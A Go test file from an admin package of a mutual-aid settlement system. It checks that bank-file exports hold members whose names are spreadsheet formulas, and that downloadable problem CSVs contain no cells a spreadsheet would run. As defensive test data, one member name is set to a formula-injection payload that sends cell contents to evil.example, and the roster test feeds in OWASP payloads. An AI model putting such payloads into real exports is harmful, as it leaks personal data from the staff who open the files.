package admin_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"huzhu/model"
	"huzhu/service/sheet/sheettest"
)

// TestExportListsHeldMembers: an export whose only payable member has a name Excel would run as
// a formula writes no bank file, and its job page and JSON say which member was held and how to
// fix it, naming the member by id and never by ID number.
func TestExportListsHeldMembers(t *testing.T) {
	w := newWorld(t)
	op1, op2 := w.login("op1"), w.login("op2")
	if j, _ := op1.finish(op1.upload("/admin/imports", map[string]string{"kind": "medical"}, "yb.csv", []byte(medicalCSV))); j.Status != model.JobDone {
		t.Fatalf("medical import = %s", j.Status)
	}
	op1.finish(op1.post("/admin/runs", url.Values{"period": {"2025-Q1"}}))
	var run model.SettlementRun
	if err := w.db.Take(&run).Error; err != nil {
		t.Fatal(err)
	}
	op2.post(fmt.Sprintf("/admin/runs/%d/approve", run.ID), nil)
	var m model.Member
	if err := w.db.Take(&m).Error; err != nil {
		t.Fatal(err)
	}
	w.db.Model(&m).Update("name", `=HYPERLINK("http://evil.example/?leak="&E2,"点此核对")`)

	j, page := op1.finish(op1.post("/admin/payments/export", url.Values{"run_id": {fmt.Sprint(run.ID)}}))
	if j.Status != model.JobDone || !strings.Contains(page, `id="held"`) || !strings.Contains(page, fmt.Sprintf("会员 %d 的姓名", m.ID)) ||
		!strings.Contains(page, "花名册") || strings.Contains(page, `id="download"`) || strings.Contains(page, "HYPERLINK") {
		t.Fatalf("export job = %s; want the member held, named by id with the fix, and no file: %s", j.Status, page)
	}
	var res struct {
		Held []struct {
			MemberID uint64 `json:"member_id"`
			Message  string `json:"message"`
		} `json:"held"`
	}
	if err := json.Unmarshal([]byte(j.Result), &res); err != nil || len(res.Held) != 1 || res.Held[0].MemberID != m.ID {
		t.Errorf("job result = %s, %v; want member %d held", j.Result, err, m.ID)
	}
	var transfers int64
	w.db.Model(&model.Transfer{}).Count(&transfers)
	if transfers != 0 {
		t.Errorf("%d transfers written for a held member", transfers)
	}
}

// TestProblemsDownloadIsSafe: the problems CSV staff download after a roster import full of
// OWASP payloads holds no cell a spreadsheet would run.
func TestProblemsDownloadIsSafe(t *testing.T) {
	w := newWorld(t)
	op1 := w.login("op1")
	var b strings.Builder
	b.WriteString("工会编码,工会名称,姓名,身份证号,开户银行,银行卡号\n")
	for _, p := range sheettest.Payloads() {
		q := `"` + strings.ReplaceAll(p, `"`, `""`) + `"`
		fmt.Fprintf(&b, "%s,%s,%s,%s,%s,%s\n", q, q, q, q, q, q)
	}
	j, page := op1.finish(op1.upload("/admin/imports", map[string]string{"kind": "roster"}, "r.csv", []byte(b.String())))
	link := fmt.Sprintf("/admin/jobs/%d/problems.csv", j.ID)
	if j.Status != model.JobDone || !strings.Contains(page, link) {
		t.Fatalf("roster import = %s, want done with a problems link: %.800s", j.Status, page)
	}
	res, body := op1.get(link)
	if res.StatusCode != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("problems.csv = %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	if bad := sheettest.UnsafeCells(t, []byte(body), 0); len(bad) > 0 {
		t.Errorf("problems.csv has cells a spreadsheet would run:\n%s", strings.Join(bad, "\n"))
	}
}
